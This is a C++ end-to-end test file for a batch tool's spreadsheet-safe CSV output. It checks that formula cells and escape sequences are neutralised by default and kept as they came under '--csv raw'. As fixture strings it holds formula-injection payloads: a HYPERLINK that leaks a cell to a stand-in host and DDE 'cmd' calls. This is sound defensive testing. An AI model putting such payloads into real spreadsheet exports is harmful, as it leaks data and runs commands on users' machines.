// Spreadsheet-safe CSV by default (issue #20): a target file's keep-columns that a
// spreadsheet would run as formulas, and an ESC sequence, reach results.csv and plan.csv
// neutralised; `--csv raw` (or `csv = "raw"` in [run] / a profile file's [defaults]) writes
// them exactly as they came; results.jsonl keeps the data either way.

#include "tests/e2e/hostile/hostile_fixture.hpp"
#include "tests/support/run_binary.hpp"
#include "tests/support/temp_dir.hpp"

#include <doctest/doctest.h>

namespace csv_test {

namespace fs = std::filesystem;
using rcbatch::test::no_profiles;
using rcbatch::test::run_rcbatch;
using rcbatch::test::slurp;
using rcbatch::test::TempDir;

namespace {
// A backup.details job over tests/data/hostile/formula-cells.csv keeping its two text columns;
// `run` goes into [run].
fs::path formula_job(const fs::path& dir, const std::string& name, const std::string& run = "") {
    const fs::path path = dir / (name + ".toml");
    std::ofstream(path) << "name = \"" << name
                        << "\"\naction = \"backup.details\"\nregion = \"us\"\n[targets]\nfile = \""
                        << RCBATCH_SOURCE_DIR << "/tests/data/hostile/formula-cells.csv\"\n"
                        << "keep-columns = [\"customer\", \"note\"]\n[run]\nrate = 0.0\n"
                        << run;
    return path;
}

// The CSV file a run or plan of `job` wrote under `reports`.
std::string csv_of(const fs::path& reports, const std::string& job, const std::string& stem) {
    const fs::path folder = rcbatch::test::only_run_folder(reports, job);
    REQUIRE_FALSE(folder.empty());
    return slurp(folder / (stem + ".csv"));
}

void check_safe(const std::string& csv) {
    CAPTURE(csv);
    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",") !=
          std::string::npos);
    CHECK(csv.find(",'+cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(csv.find(",'@SUM(1+1)*cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(csv.find(",\\x1b[2Jcleared,") != std::string::npos);
    CHECK(csv.find('\x1b') == std::string::npos);
    for (const char* start : {",=", ",+", ",@", ",\"="})
        CHECK(csv.find(start) == std::string::npos);
}

void check_raw(const std::string& csv) {
    CAPTURE(csv);
    CHECK(csv.find(",\"=HYPERLINK(") != std::string::npos);
    CHECK(csv.find(",+cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(csv.find(",@SUM(1+1)*cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(csv.find(",\x1b[2Jcleared,") != std::string::npos);
}
}  // namespace

TEST_SUITE("e2e: spreadsheet-safe CSV") {
    TEST_CASE("results.csv and plan.csv are safe by default; --csv raw keeps the cells") {
        TempDir tmp{"rcbatch-e2e-csv"};
        const std::string reports = (tmp.path / "reports").string();
        for (const char* command : {"run", "plan"}) {
            CAPTURE(command);
            const std::string stem = command == std::string("run") ? "results" : "plan";
            const std::string safe = std::string(command) + "-safe";
            auto r = run_rcbatch({command, formula_job(tmp.path, safe).string(), "--sandbox",
                                  "--quiet", "--report-dir", reports},
                                 no_profiles);
            CAPTURE(r.err);
            // The two orders do not exist: a run records api_error (exit 1), a plan of a read
            // lists them; either way each has its row.
            CHECK((r.exit_code == 0 || r.exit_code == 1));
            check_safe(csv_of(reports, safe, stem));

            const std::string raw = std::string(command) + "-raw";
            auto rr = run_rcbatch({command, formula_job(tmp.path, raw).string(), "--sandbox",
                                   "--quiet", "--csv", "raw", "--report-dir", reports},
                                  no_profiles);
            CHECK(rr.exit_code == r.exit_code);
            check_raw(csv_of(reports, raw, stem));
            // The JSON records keep the data as it came, either way.
            const fs::path folder = rcbatch::test::only_run_folder(reports, safe);
            CHECK(slurp(folder / (stem + ".jsonl")).find("\"=HYPERLINK(") != std::string::npos);
        }
    }

    TEST_CASE("csv = \"raw\" in the job's [run]; a bad value is a located error") {
        TempDir tmp{"rcbatch-e2e-csv"};
        const std::string reports = (tmp.path / "reports").string();
        auto r = run_rcbatch({"run", formula_job(tmp.path, "job-raw", "csv = \"raw\"\n").string(),
                              "--sandbox", "--quiet", "--report-dir", reports},
                             no_profiles);
        CHECK(r.exit_code == 1);
        check_raw(csv_of(reports, "job-raw", "results"));

        auto bad = run_rcbatch(
            {"validate", formula_job(tmp.path, "job-bad", "csv = \"excel\"\n").string()},
            no_profiles);
        CHECK(bad.exit_code == 2);
        CHECK(bad.err.find(": run.csv: 'excel' is not one of safe, raw") != std::string::npos);
        auto flag = run_rcbatch(
            {"run", formula_job(tmp.path, "flag-bad").string(), "--sandbox", "--csv", "excel"},
            no_profiles);
        CHECK(flag.exit_code == 2);
        CHECK(flag.err.find("--csv is safe or raw") != std::string::npos);
    }
}

}  // namespace csv_test
